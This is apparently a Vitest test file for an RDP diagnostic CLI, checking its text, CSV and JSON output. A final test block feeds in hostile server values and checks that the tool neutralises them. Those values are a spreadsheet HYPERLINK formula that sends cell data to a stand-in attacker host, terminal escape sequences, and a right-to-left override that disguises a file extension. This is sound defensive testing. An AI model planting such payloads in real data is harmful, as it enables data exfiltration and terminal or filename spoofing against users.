import { describe, expect, it } from 'vitest';
import { main, EXIT_INTERNAL, EXIT_USAGE, type CliIo } from '../../electron/cli/rdp-doctor';
import type { ProbeOptions } from '../../electron/main/probe/probe';
import type { ProbeReport } from '../../shared/probe-facts';
import { address, cert, report, tls } from './fixtures';

/** The CLI through its exported main(), with the probe replaced by canned reports. */

function io(reports: Record<string, ProbeReport>, opts: { tty?: boolean; file?: string } = {}) {
  const out: string[] = [];
  const err: string[] = [];
  const calls: { host: string; options: ProbeOptions }[] = [];
  const value: CliIo = {
    stdout: { write: (s: string) => out.push(s) },
    stderr: { write: (s: string) => err.push(s), isTTY: opts.tty ?? false },
    readFile: async (p) => {
      if (opts.file === undefined) throw new Error(`ENOENT: ${p}`);
      return opts.file;
    },
    probe: async (host, options) => {
      calls.push({ host, options });
      options.onProgress?.({ stage: 'dns', state: 'running', detail: `looking up ${host}` });
      const r = reports[host];
      if (!r) throw new Error(`no canned report for ${host}`);
      return { ...r, target: { host, port: options.port ?? 3389 } };
    },
  };
  return { value, out: () => out.join(''), err: () => err.join(''), calls };
}

const ok = report();
const expiring = report({ addresses: [address({ tls: tls({ certificate: cert({ daysLeft: 12 }) }) })] });
const expiringSooner = report({ addresses: [address({ tls: tls({ certificate: cert({ daysLeft: 3 }) }) })] });
const filtered = report({
  addresses: [],
  tcp: { port: 3389, attempts: [{ address: '10.0.0.9', state: 'filtered', ms: 3000, error: null }] },
});
const withNla = report({
  addresses: [
    address({
      nla: {
        outcome: 'challenge',
        credsspVersion: 6,
        errorCode: null,
        error: null,
        ms: 2,
        challenge: {
          targetName: 'CORP',
          netbiosComputer: 'RDS01',
          netbiosDomain: 'CORP',
          dnsComputer: 'RDS01.corp.example.com',
          dnsDomain: 'corp.example.com',
          dnsTree: 'corp.example.com',
          serverTime: '2026-06-01T00:00:01.000Z',
          clockSkewMs: 1000,
          osVersion: { major: 10, minor: 0, build: 20348, ntlmRevision: 15 },
          targetType: 'domain',
          negotiateFlags: 0,
        },
      },
    }),
  ],
});
const notRdp = report({
  addresses: [
    address({
      tls: null,
      tlsVersions: [],
      negotiation: [
        { requested: 3, requestedName: 'SSL|HYBRID', confirm: { kind: 'not-rdp', looksLike: 'http', sample: '48 "H"' }, tls: null, ms: 1 },
      ],
    }),
  ],
});

describe('rdp-doctor probe HOST', () => {
  it('prints a human report and exits 0 for a healthy server', async () => {
    const t = io({ 'server.example.com': ok });
    expect(await main(['probe', 'server.example.com'], t.value)).toBe(0);
    expect(t.out()).toMatch(/^RDP Doctor probe: server\.example\.com:3389/);
    expect(t.out()).toContain(`SHA-1 (thumbprint) ${'AB'.repeat(20)}`);
    expect(t.out()).toMatch(/Verdict: ok .*\(exit 0\)/);
    expect(t.err()).toBe('');
  });

  it("prints each finding's technical text and Microsoft's article, for helpdesk", async () => {
    const t = io({ 'server.example.com': filtered });
    await main(['probe', 'server.example.com'], t.value);
    expect(t.out()).toContain(
      "    Technical: TCP SYN to 3389 unanswered on every address (filtered). Server: Get-NetFirewallRule -Group '@FirewallAPI.dll,-28752'",
    );
    expect(t.out()).toContain(
      '    Learn more: https://learn.microsoft.com/troubleshoot/azure/virtual-machines/windows/guest-os-firewall-blocking-inbound-traffic',
    );
  });

  it('passes HOST:PORT and --timeout to the probe; [IPv6]:PORT works', async () => {
    const t = io({ 'server.example.com': ok, 'fe80::1': ok });
    await main(['probe', 'server.example.com:3390', '--timeout', '1500'], t.value);
    await main(['probe', '[fe80::1]:3391'], t.value);
    expect(t.calls.map((c) => [c.host, c.options.port, c.options.timeoutMs])).toEqual([
      ['server.example.com', 3390, 1500],
      ['fe80::1', 3391, undefined],
    ]);
  });

  it('--json is the verdict, findings and report; exit code follows the verdict', async () => {
    const t = io({ blocked: filtered });
    expect(await main(['probe', 'blocked', '--json'], t.value)).toBe(4);
    const json = JSON.parse(t.out());
    expect(Object.keys(json)).toEqual(['input', 'verdict', 'findings', 'report']);
    expect(json.verdict.severity).toBe('unreachable');
    expect(json.findings[0].id).toBe('port-filtered');
  });

  it('shows progress on a terminal only, and clears it', async () => {
    const tty = io({ h: ok }, { tty: true });
    await main(['probe', 'h'], tty.value);
    expect(tty.err()).toContain('looking up h');
    expect(tty.err().endsWith('\r\x1b[K')).toBe(true);
    const pipe = io({ h: ok });
    await main(['probe', 'h'], pipe.value);
    expect(pipe.err()).toBe('');
  });

  it.each([
    [[], 0],
    [['--help'], 0],
    [['scan', 'x'], EXIT_USAGE],
    [['probe'], EXIT_USAGE],
    [['probe', 'a', 'b'], EXIT_USAGE],
    [['probe', 'a', '--timeout', 'soon'], EXIT_USAGE],
    [['probe', 'a', '--timeout', '5'], EXIT_USAGE],
    [['probe', 'a', '--csv'], EXIT_USAGE],
    [['probe', 'bad host!'], EXIT_USAGE],
    [['probe', 'a', '--file', 'x'], EXIT_USAGE],
    [['probe', '--file', 'x', '--json', '--csv'], EXIT_USAGE],
    [['probe', '--file', 'x', '--jsonl', '--csv'], EXIT_USAGE],
    [['probe', 'a', '--jsonl'], EXIT_USAGE],
    [['probe', 'a', '--frobnicate'], EXIT_USAGE],
  ] as const)('%j exits %i', async (argv, code) => {
    const t = io({});
    expect(await main(argv, t.value)).toBe(code);
    if (code === 0) expect(t.out()).toContain('Exit codes:');
    else expect(t.err()).toMatch(/^rdp-doctor: /);
  });

  it('an unexpected failure is an internal error (70), not a crash', async () => {
    const t = io({});
    expect(await main(['probe', 'unknown-host'], t.value)).toBe(EXIT_INTERNAL);
    expect(t.err()).toContain('internal error');
  });
});

describe('rdp-doctor probe --file', () => {
  const file =
    'ok.example.com\n# a comment\n\nsoon.example.com:3390  # inline comment\nsooner.example.com\nblocked.example.com\nweb.example.com:8080\n';
  const reports = {
    'ok.example.com': ok,
    'soon.example.com': expiring,
    'sooner.example.com': expiringSooner,
    'blocked.example.com': filtered,
    'web.example.com': notRdp,
  };

  it('prints a table sorted by severity, expiring certificates soonest first, and exits with the worst code', async () => {
    const t = io(reports, { file });
    expect(await main(['probe', '--file', 'hosts.txt'], t.value)).toBe(4);
    const rows = t.out().trim().split('\n');
    expect(rows.map((r) => r.split(/\s+/)[1])).toEqual([
      'TARGET',
      'blocked.example.com:3389',
      'web.example.com:8080',
      'sooner.example.com:3389',
      'soon.example.com:3390',
      'ok.example.com:3389',
    ]);
    expect(rows[3]).toMatch(/^warning\s.*\s3\s+The server's certificate expires in 3 days$/);
  });

  it('--csv streams a header and one row per host in list order, quoting cells with commas', async () => {
    const t = io(reports, { file });
    await main(['probe', '--file', 'hosts.txt', '--csv'], t.value);
    const lines = t.out().trim().split('\n');
    expect(lines[0]).toBe('severity,target,accepts,tls,cert_days,finding,exit_code,cert_sha1,server_name,os_version');
    expect(lines.slice(1).map((l) => l.split(',')[1])).toEqual([
      'ok.example.com:3389',
      'soon.example.com:3390',
      'sooner.example.com:3389',
      'blocked.example.com:3389',
      'web.example.com:8080',
    ]);
    expect(lines[3]).toBe(
      `warning,sooner.example.com:3389,"RDP,SSL",1.2,3,The server's certificate expires in 3 days,1,${'AB'.repeat(20)},,`,
    );
  });

  it("--csv carries what the NLA stage learned: the server's own name and OS version", async () => {
    const t = io({ 'rds.example.com': withNla }, { file: 'rds.example.com\n' });
    await main(['probe', '--file', 'hosts.txt', '--csv'], t.value);
    expect(t.out().trim().split('\n')[1]).toMatch(/,RDS01\.corp\.example\.com,10\.0\.20348$/);
  });

  it('--jsonl: one JSON result a line, in list order, each the same shape as --json', async () => {
    const t = io(reports, { file });
    expect(await main(['probe', '--file', 'hosts.txt', '--jsonl'], t.value)).toBe(4);
    const lines = t
      .out()
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines.map((l) => l.input)).toEqual([
      'ok.example.com',
      'soon.example.com:3390',
      'sooner.example.com',
      'blocked.example.com',
      'web.example.com:8080',
    ]);
    expect(Object.keys(lines[0])).toEqual(['input', 'verdict', 'findings', 'report']);
  });

  it('streams: rows leave while later hosts are still being probed, and stay in list order', async () => {
    const t = io(reports, { file });
    let release!: () => void;
    const gate = new Promise<void>((r) => (release = r));
    const inner = t.value.probe!;
    let seenBeforeRelease = '';
    // ok.example.com (first in the list) finishes last: nothing may be written before it...
    t.value.probe = async (h, o) => {
      if (h === 'ok.example.com') await gate;
      if (h === 'web.example.com') {
        seenBeforeRelease = t.out();
        setTimeout(release, 5);
      }
      return inner(h, o);
    };
    const done = main(['probe', '--file', 'hosts.txt', '--csv'], t.value);
    await done;
    // ...except the header: rows wait for the ones above them, then all come out in order.
    expect(seenBeforeRelease).toBe('severity,target,accepts,tls,cert_days,finding,exit_code,cert_sha1,server_name,os_version\n');
    expect(t.out().trim().split('\n')).toHaveLength(6);
  });

  it('streams: a result is written before the next host has even started when concurrency is 1', async () => {
    const t = io(reports, { file });
    const inner = t.value.probe!;
    const seen: number[] = [];
    t.value.probe = async (h, o) => {
      seen.push(t.out().split('\n').length - 1);
      return inner(h, o);
    };
    await main(['probe', '--file', 'hosts.txt', '--jsonl', '--concurrency', '1'], t.value);
    expect(seen).toEqual([0, 1, 2, 3, 4]);
  });

  it('no progress line and nothing else on stderr when stderr is not a terminal', async () => {
    for (const format of [[], ['--csv'], ['--jsonl'], ['--json']]) {
      const t = io(reports, { file, tty: false });
      await main(['probe', '--file', 'hosts.txt', ...format], t.value);
      expect(t.err()).toBe('');
    }
  });

  it('never probes one server twice at once, however often the list names it', async () => {
    const t = io(
      { 'a.example.com': ok, 'A.example.com': ok, 'b.example.com': ok },
      { file: `${'a.example.com\nA.example.com:3389\nb.example.com\n'.repeat(10)}` },
    );
    const inner = t.value.probe!;
    const now = new Map<string, number>();
    let peakSame = 0;
    let peakAll = 0;
    let all = 0;
    t.value.probe = async (h, o) => {
      const k = h.toLowerCase();
      now.set(k, (now.get(k) ?? 0) + 1);
      all++;
      peakSame = Math.max(peakSame, now.get(k)!);
      peakAll = Math.max(peakAll, all);
      await new Promise((r) => setTimeout(r, 2));
      now.set(k, now.get(k)! - 1);
      all--;
      return inner(h, o);
    };
    await main(['probe', '--file', 'hosts.txt', '--csv'], t.value);
    expect(peakSame).toBe(1);
    expect(peakAll).toBe(2);
    expect(t.out().trim().split('\n')).toHaveLength(31);
  });

  it('Ctrl+C stops taking new hosts; the ones already probed are still written', async () => {
    const abort = new AbortController();
    const t = io(reports, { file });
    t.value.signal = abort.signal;
    const inner = t.value.probe!;
    let calls = 0;
    t.value.probe = async (h, o) => {
      if (++calls === 2) abort.abort();
      return inner(h, o);
    };
    await main(['probe', '--file', 'hosts.txt', '--csv', '--concurrency', '1'], t.value);
    expect(calls).toBe(2);
    expect(
      t
        .out()
        .trim()
        .split('\n')
        .slice(1)
        .map((l) => l.split(',')[1]),
    ).toEqual(['ok.example.com:3389', 'soon.example.com:3390']);
  });

  it('--no-nla turns the CredSSP stage off', async () => {
    const t = io({ h: ok });
    await main(['probe', 'h', '--no-nla'], t.value);
    await main(['probe', 'h'], t.value);
    expect(t.calls.map((c) => c.options.nla)).toEqual([false, true]);
  });

  it('--json lists every host, worst first', async () => {
    const t = io(reports, { file });
    await main(['probe', '--file', 'hosts.txt', '--json'], t.value);
    const json = JSON.parse(t.out());
    expect(json.exitCode).toBe(4);
    expect(json.results.map((r: { verdict: { severity: string } }) => r.verdict.severity)).toEqual([
      'unreachable',
      'not-rdp',
      'warning',
      'warning',
      'ok',
    ]);
  });

  it('respects --concurrency and shows an n/total progress line on a terminal', async () => {
    const t = io(reports, { file, tty: true });
    let running = 0;
    let peak = 0;
    const inner = t.value.probe!;
    t.value.probe = async (h, o) => {
      peak = Math.max(peak, ++running);
      await new Promise((r) => setTimeout(r, 5));
      running--;
      return inner(h, o);
    };
    await main(['probe', '--file', 'hosts.txt', '--concurrency', '2'], t.value);
    expect(peak).toBe(2);
    expect(t.err()).toContain('[5/5]');
  });

  it('refuses a file with a bad line, naming it', async () => {
    const t = io(reports, { file: 'ok.example.com\nnot a host\n' });
    expect(await main(['probe', '--file', 'hosts.txt'], t.value)).toBe(EXIT_USAGE);
    expect(t.err()).toContain('"not a host"');
  });

  it('an unreadable file is a usage error', async () => {
    const t = io(reports);
    expect(await main(['probe', '--file', 'missing.txt'], t.value)).toBe(EXIT_USAGE);
    expect(t.err()).toContain('cannot read missing.txt');
  });
});

describe('what a hostile server says reaches a spreadsheet and a terminal inert (issue 22, Low 3)', () => {
  const ESC = '\u001b';
  // A formula in the NTLM computer name, an OSC title change and an 8-bit CSI in the certificate,
  // a right-to-left override that makes "exe.txt" read "txt.exe".
  const hostile = report({
    addresses: [
      address({
        tls: tls({
          certificate: cert({
            subject: `CN=srv${ESC}]0;owned\u0007\u009b2J`,
            subjectAltNames: ['report\u202etxt.exe'],
            daysLeft: -3,
            expired: true,
          }),
        }),
        nla: {
          ...withNla.addresses[0]!.nla!,
          challenge: { ...withNla.addresses[0]!.nla!.challenge!, dnsComputer: '=HYPERLINK("https://evil.example/?"&A1,"Open")' },
        },
      }),
    ],
  });
  const controls = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

  it('--csv: a cell starting with = is text, not a formula; no control character survives; numbers stay numbers', async () => {
    const t = io({ 'evil.example.com': hostile }, { file: 'evil.example.com\n' });
    await main(['probe', '--file', 'hosts.txt', '--csv'], t.value);
    const row = t.out().trim().split('\n')[1]!;
    expect(row).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",10.0.20348`);
    expect(row).toMatch(/^warning,evil\.example\.com:3389,"RDP,SSL",1\.2,-3,/);
    expect(row).not.toMatch(controls);
  });

  it('the report on a terminal shows the characters as <U+XXXX> and acts on none of them', async () => {
    const t = io({ 'evil.example.com': hostile });
    await main(['probe', 'evil.example.com'], t.value);
    expect(t.out()).not.toMatch(controls);
    expect(t.out()).toContain('CN=srv<U+001B>]0;owned<U+0007><U+009B>2J');
    expect(t.out()).toContain('SAN report<U+202E>txt.exe');
  });

  it('--json and --jsonl escape them, so the same values parse back', async () => {
    for (const flag of ['--json', '--jsonl']) {
      const t = io({ 'evil.example.com': hostile }, { file: 'evil.example.com\n' });
      await main(['probe', '--file', 'hosts.txt', flag], t.value);
      expect(t.out()).not.toMatch(controls);
      const parsed = JSON.parse(t.out()) as { results?: unknown[] };
      const result = (flag === '--json' ? parsed.results![0] : parsed) as { report: ProbeReport };
      expect(result.report.addresses[0]!.tls!.certificate!.subjectAltNames).toEqual(['report\u202etxt.exe']);
    }
  });

  it('a line of --file with an escape sequence is named without running it', async () => {
    const t = io({}, { file: `ok.example.com\nbad${ESC}[2Jhost:99999\n` });
    expect(await main(['probe', '--file', 'hosts.txt'], t.value)).toBe(EXIT_USAGE);
    expect(t.err()).toContain('bad<U+001B>[2Jhost:99999');
    expect(t.err()).not.toMatch(controls);
  });
});
